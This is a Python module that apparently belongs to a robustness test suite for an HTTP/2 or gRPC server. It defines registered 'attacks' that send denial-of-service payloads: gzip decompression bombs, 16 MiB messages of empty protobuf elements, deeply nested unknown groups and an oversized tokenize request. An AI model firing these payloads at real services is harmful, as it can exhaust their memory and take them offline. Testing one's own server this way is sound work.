"""Messages that are small on the line and large in memory."""

import gzip

from http2 import EMBED, EVALUATE, TOKENIZE, inputs

from .registry import MIB, attack, calls


@attack("bomb-metrics", quick=True)
def _(server, seconds):
    """16 KB of gzip that unpack to 8 Mi empty metric selections"""
    calls(server, seconds, EVALUATE, gzip.compress(b"\x12\0" * (8 * MIB - 1)), 4, compressed="gzip")


@attack("bomb-unknown-metrics")
def _(server, seconds):
    """619 bytes of gzip that unpack to 300,000 empty metric selections"""
    calls(server, seconds, EVALUATE, gzip.compress(b"\x12\0" * 300_000), 4, compressed="gzip")


@attack("bomb-contexts")
def _(server, seconds):
    """16 MiB of two-byte elements: empty contexts"""
    contexts = b"\x1a\0" * (8 * MIB - 16)
    payload = b"\x0a" + bytes([len(contexts) >> shift & 127 | (128 if shift < 21 else 0) for shift in (0, 7, 14, 21)]) + contexts
    calls(server, seconds, EVALUATE, payload, 2)


@attack("bomb-inputs")
def _(server, seconds):
    """16 MiB of two-byte elements: empty inputs"""
    calls(server, seconds, EMBED, b"\x0a\0" * (8 * MIB - 1), 2)


@attack("bomb-groups")
def _(server, seconds):
    """16 MiB of unknown groups, and messages nested deeper than any"""
    calls(server, seconds / 2, EMBED, b"\x7b\x7c" * (8 * MIB - 1), 2)
    calls(server, seconds / 2, EMBED, b"\x7b" * 100_000, 2)


@attack("tokenize-16MiB")
def _(server, seconds):
    """Tokenize of 15.9 MiB, from four callers"""
    payload = inputs(*["a " * 65_000] * 127)
    calls(server, seconds, TOKENIZE, payload, 4, grpc_timeout="8S")
